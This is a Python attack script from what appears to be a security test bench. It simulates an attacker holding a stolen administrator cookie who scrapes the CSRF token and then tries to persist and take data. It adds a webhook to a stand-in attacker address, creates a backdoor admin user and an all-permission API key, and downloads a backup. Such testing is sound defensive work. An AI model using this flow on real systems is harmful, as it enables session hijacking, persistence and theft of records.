"""Who has the cookie of an administrator, and nothing else, tries to stay and to take records."""

from __future__ import annotations

import re
from typing import Any

import trio

from tests.bench.attacks.attack import ATTACKER, Got, Site, Target
from tests.bench.attacks.client import ask, request_bytes
from tests.bench.attacks.sign_in_flood import Browser

_TARGET = b'{"kind": "webhook", "url": "http://192.168.1.66:9/in"}'
_FORMS = {
    "add a target": ("/site/targets/add", "url=http://192.168.1.66:9/in"),
    "add an API key": ("/site/api-keys/add", "name=stay&may=all"),
    "add a user": ("/site/users/add", "name=stay&role=admin&password=stay%20here%201"),
    "link a screen": ("/site/screens/link", "name=stay&user=admin"),
    "take a backup": ("/site/backups/download", "pictures=yes"),
}


def prepare(site: Site) -> dict[str, Any]:
    name, password = site.hub.administrator()
    browser = Browser(site.hub.web_port, site.hub.tls, "127.0.2.9")
    if trio.run(browser.sign_in, name, password) != 303:
        raise SystemExit("the administrator cannot sign in")
    return {"cookies": browser.cookies}


async def attack(target: Target, got: Got) -> None:
    pairs = "; ".join(f"{name}={value}" for name, value in target.prepared["cookies"].items())

    async def send(method: str, path: str, kind: str, body: bytes, token: str) -> int:
        headers = {"Cookie": pairs, "Content-Type": kind, "X-CSRF-Token": token}
        sent = request_bytes(method, path, headers, body)
        return (await ask(target.web_port, sent, tls=target.tls, source=ATTACKER)).status

    sent = request_bytes("GET", "/account", {"Cookie": pairs})
    page = await ask(target.web_port, sent, tls=target.tls, source=ATTACKER)
    token = re.findall(rb'name="csrf_token" value="([^"]+)"', page.body)[0].decode()
    status = await send("POST", "/api/hub/v1/targets", "application/json", _TARGET, token)
    got[f"add a target by the API: {status}"] += 1
    for what, (path, form) in _FORMS.items():
        body = f"csrf_token={token}&{form}".encode()
        status = await send("POST", path, "application/x-www-form-urlencoded", body, token)
        got[f"{what}: {status}"] += 1
